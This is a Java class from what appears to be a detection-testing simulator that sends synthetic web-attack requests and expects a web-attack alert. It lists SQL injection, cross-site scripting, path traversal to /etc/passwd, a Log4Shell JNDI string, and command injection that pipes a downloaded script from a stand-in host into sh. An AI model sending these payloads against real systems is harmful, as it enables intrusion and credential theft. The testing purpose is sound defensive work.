package io.zhidun.simulator.attack;

import io.zhidun.simulator.load.Addresses;
import io.zhidun.simulator.load.Browser;
import io.zhidun.simulator.load.Pauses;
import io.zhidun.simulator.load.Person;
import io.zhidun.simulator.load.Stage;
import io.zhidun.simulator.time.Script;
import io.zhidun.simulator.web.SystemName;
import java.time.Instant;
import java.util.List;
import java.util.random.RandomGenerator;

/**
 * Sends a few requests that carry an attack in the address or the user agent. Few, so that the
 * answers 400, 403 and 404 do not also make a scan of them.
 */
final class WebStrings implements Attack {
  private static final String TOOL = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) curl-like/8.1";

  private final String name;
  private final List<String> targets;
  private final String userAgent;

  /**
   * @param targets percent-encoded as a client must send them
   */
  private WebStrings(String name, List<String> targets, String userAgent) {
    this.name = name;
    this.targets = targets;
    this.userAgent = userAgent;
  }

  static Attack sqlInjection() {
    return new WebStrings(
        "web-sql-injection",
        List.of(
            "/publications?q=1%27%20OR%20%271%27=%271",
            "/publications?q=x%27%20UNION%20SELECT%20account,password%20FROM%20users--",
            "/publications?page=0;SELECT%20SLEEP(5)--"),
        TOOL);
  }

  static Attack crossSiteScripting() {
    return new WebStrings(
        "web-cross-site-scripting",
        List.of(
            "/publications?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
            "/publications?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"),
        TOOL);
  }

  static Attack pathTraversal() {
    return new WebStrings(
        "web-path-traversal",
        List.of(
            "/announcements/../../../../etc/passwd",
            "/announcements/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
        TOOL);
  }

  static Attack log4shell() {
    return new WebStrings(
        "web-log4shell",
        List.of("/", "/publications?q=$%7Bjndi:ldap://203.0.113.254:1389/a%7D"),
        "${jndi:ldap://203.0.113.254:1389/a}");
  }

  static Attack commandInjection() {
    return new WebStrings(
        "web-command-injection",
        List.of(
            "/publications?q=a;cat%20/etc/passwd",
            "/publications?q=%7Cwget%20http://203.0.113.254/x.sh%7Csh"),
        TOOL);
  }

  @Override
  public String name() {
    return name;
  }

  @Override
  public Attempt plan(int n, Instant begin, Stage stage, RandomGenerator random) {
    String from = Addresses.ofAttacker(n, random.nextBoolean());
    SystemName system = SystemName.PUBLIC_SERVICE;
    Browser browser = stage.browser(system, new Person(null, from, userAgent));
    Script.Plan steps = new Script.Plan();
    for (String target : targets) {
      steps.after(Pauses.seconds(0.5, 3, random), () -> browser.get(target));
    }
    Expectation strings = Expectation.of(RuleNames.WEB_ATTACK, "source.ip", from);
    return new Attempt(from, system, null, List.of(strings), steps);
  }
}
